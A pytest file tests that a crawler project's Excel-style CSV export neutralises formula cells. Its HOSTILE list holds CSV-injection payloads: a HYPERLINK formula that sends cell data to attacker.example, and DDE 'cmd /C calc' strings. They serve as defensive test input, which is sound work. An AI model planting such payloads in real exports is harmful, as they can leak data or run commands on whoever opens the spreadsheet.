"""Excel-flavoured CSV (``hdnd export --format csv`` and the web's excel link) never hands
a spreadsheet a formula; the plain web ``.csv`` stays the data as stored."""

from __future__ import annotations

import csv
import io
import urllib.parse

import pytest

from corpus import store
from corpus.db import connect
from corpus.export import export_table
from crawler.extract import ArticleItem
from tests.conftest import article_text
from tests.corpus.conftest import get, serving

HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0"]
HARMLESS = ["Kỳ họp thứ 12 HĐND tỉnh", "-3,5", "2024"]


@pytest.fixture
def corpus_path(tmp_path):
    path = tmp_path / "hdnd.db"
    db = connect(path)
    for n, title in enumerate(HOSTILE + HARMLESS):
        store.save_article(db, ArticleItem(url=f"https://bao.example.vn/bai-{n}", title=title, text=article_text(n),
                                           source="bao.example.vn"))
    db.conn.close()
    return path


def _titles(data: str) -> list[str]:
    return [row["title"] for row in csv.DictReader(io.StringIO(data))]


def _inert(cell: str) -> bool:
    return not cell.startswith(("=", "+", "-", "@")) or cell == "-3,5"


def test_export_csv_defuses_formulas(corpus_path, tmp_path):
    out = tmp_path / "a.csv"
    export_table(connect(corpus_path), "articles", "csv", out)
    titles = _titles(out.read_text(encoding="utf-8-sig"))
    assert titles == ["'" + t for t in HOSTILE] + HARMLESS
    assert all(_inert(t) for t in titles)


def test_web_excel_csv_defuses_formulas_and_plain_csv_keeps_data(corpus_path):
    with serving(corpus_path) as port:
        base = f"http://127.0.0.1:{port}"
        query = urllib.parse.urlencode({"_sort": "id", "_col": "title", "_size": "max"})
        status, excel = get(f"{base}/hdnd/articles.csv?{query}&_bom=1&_stream=on")
        assert status == 200 and excel.startswith(b"\xef\xbb\xbf")
        titles = _titles(excel.decode("utf-8-sig"))
        assert titles == ["'" + t for t in HOSTILE] + HARMLESS
        plain = get(f"{base}/hdnd/articles.csv?{query}")[1].decode("utf-8")
        assert _titles(plain) == HOSTILE + HARMLESS
